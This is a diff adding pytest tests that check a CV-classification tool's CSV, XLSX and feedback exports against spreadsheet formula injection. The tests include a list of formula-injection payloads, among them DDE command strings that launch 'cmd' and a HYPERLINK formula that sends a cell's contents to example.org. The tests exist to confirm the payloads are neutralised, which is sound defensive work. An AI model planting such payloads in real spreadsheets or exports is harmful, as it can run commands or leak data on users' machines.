@@ -3,12 +3,18 @@ injection in CSV outputs, links and special files in a folder of documents."""
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 import zipfile
 from pathlib import Path
 
+import pytest
+
+from cvclassify.feedback import FeedbackStore
 from cvclassify.io.readers import open_table
+from cvclassify.io.writers import csv_safe_cell, write_rows
+from cvclassify.service.review import export_feedback, export_queue
 
 # ------------------------------------------------------------------------ XLSX whose size is stale (item 2)
 
@@ -46,3 +52,79 @@ def test_xlsx_with_a_stale_dimension_gives_every_row_and_column(tmp_path):
         for i in range(1, 7)
     ]
     assert rows[-1].where == "feuille « Sheet », ligne 7"
+
+
+# ------------------------------------------------------------------- formula injection in CSV (item 4)
+
+HOSTILE = ['=HYPERLINK("http://example.org/?x="&A1;"Cliquez")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+           "@SOMME(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote(value):
+    assert csv_safe_cell(value) == "'" + value
+    assert csv_safe_cell([value, "1.2"]) == "'" + value + " | 1.2"
+
+
+@pytest.mark.parametrize(("value", "text"), [
+    (-0.5, "-0.5"), (-3, "-3"), (None, ""), ("-12,5", "-12,5"), ("+33", "+33"), ("-1e-3", "-1e-3"),
+    ("Médiation = lien social", "Médiation = lien social"), ("", ""), ("1.2 | 3.4", "1.2 | 3.4"),
+])
+def test_numbers_and_harmless_texts_are_written_as_they_are(value, text):
+    assert csv_safe_cell(value) == text
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.DictReader(handle, delimiter=";"))
+
+
+def test_batch_csv_output_neutralises_formulas_in_cells_and_headers(tmp_path):
+    output = tmp_path / "codes.csv"
+    rows = [{"=titre": value, "cv_score_1": -0.5} for value in HOSTILE]
+    assert write_rows(output, ["=titre", "cv_score_1"], rows) == len(HOSTILE)
+    read = read_csv(output)
+    assert list(read[0]) == ["'=titre", "cv_score_1"]
+    assert [row["'=titre"] for row in read] == ["'" + value for value in HOSTILE]
+    assert {row["cv_score_1"] for row in read} == {"-0.5"}
+
+
+@pytest.fixture
+def store(tmp_path):
+    s = FeedbackStore(f"sqlite:///{tmp_path / 'feedback.sqlite3'}")
+    s.upgrade()
+    yield s
+    s.close()
+
+
+def test_feedback_export_neutralises_formulas(store, tmp_path):
+    store.add_feedback("metz", suggested=["1.1"], kept=["1.1"], text="=HYPERLINK(\"http://x\")",
+                       comment="+cmd|' /C calc'!A0", reviewer="@instructeur", document_id="-1+1")
+    export_feedback(store, "metz", tmp_path / "retours.csv")
+    [row] = read_csv(tmp_path / "retours.csv")
+    assert (row["text"], row["comment"], row["reviewer"], row["document_id"]) == (
+        "'=HYPERLINK(\"http://x\")", "'+cmd|' /C calc'!A0", "'@instructeur", "'-1+1")
+    assert row["final_codes"] == "1.1"
+
+
+def test_queue_export_neutralises_formulas(store, tmp_path):
+    items = [dict(position=1, row_id="R1", values={"Libellé": "=1+1", "Montant": "-1500"},
+                  fields={"title": "=1+1"}, result={"suggestions": [], "decision": {"confidence": 0.25}},
+                  uncertainty=0.75, error=None)]
+    queue_id = store.create_queue("metz", "appel.csv", ["Libellé", "Montant"], [], "v1", items)
+    export_queue(store, "metz", queue_id, tmp_path / "revu.csv")
+    [row] = read_csv(tmp_path / "revu.csv")
+    assert (row["Libellé"], row["Montant"], row["cv_confiance"]) == ("'=1+1", "-1500", "0.25")
+
+
+def test_xlsx_output_keeps_formula_like_texts_as_texts(tmp_path):
+    import openpyxl
+
+    output = tmp_path / "codes.xlsx"
+    write_rows(output, ["texte", "score"], [{"texte": value, "score": -0.5} for value in HOSTILE])
+    with zipfile.ZipFile(output) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+    sheet = openpyxl.load_workbook(output)["Suggestions"]
+    cells = list(sheet.iter_rows(min_row=2))
+    assert [row[0].value for row in cells] == HOSTILE
+    assert {row[0].data_type for row in cells} == {"s"} and {row[1].value for row in cells} == {-0.5}
